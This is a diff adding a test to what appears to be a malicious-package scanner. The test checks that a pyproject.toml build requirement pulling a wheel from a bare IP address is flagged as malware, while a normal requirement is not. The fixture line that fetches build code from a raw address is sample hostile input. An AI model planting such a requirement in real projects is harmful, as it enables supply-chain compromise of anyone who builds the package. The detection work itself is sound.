@@ -70,3 +70,15 @@ test('a command put together from pieces and started through getattr is found', 
     { class: 'suspicious', score: 5, path: 'example-1.0.0/setup.py', line: 5 },
   ]);
 });
+
+test('a requirement of the build that stands at a bare address is malware', async () => {
+  const project = (requirement: string): string =>
+    `[build-system]\nrequires = ["setuptools", "${requirement}"]\nbuild-backend = "setuptools.build_meta"\n`;
+  const astray = sdist({ 'pyproject.toml': project('helper @ http://203.0.113.7/helper.whl'), 'pkg/__init__.py': '' });
+  const named = sdist({ 'pyproject.toml': project('wheel>=0.40'), 'pkg/__init__.py': '' });
+
+  expect(await inspect('foreign-install', astray)).toMatchObject([
+    { class: 'malware', score: 10, context: 'install', path: 'example-1.0.0/pyproject.toml', line: 2 },
+  ]);
+  expect(await inspect('foreign-install', named)).toEqual([]);
+});
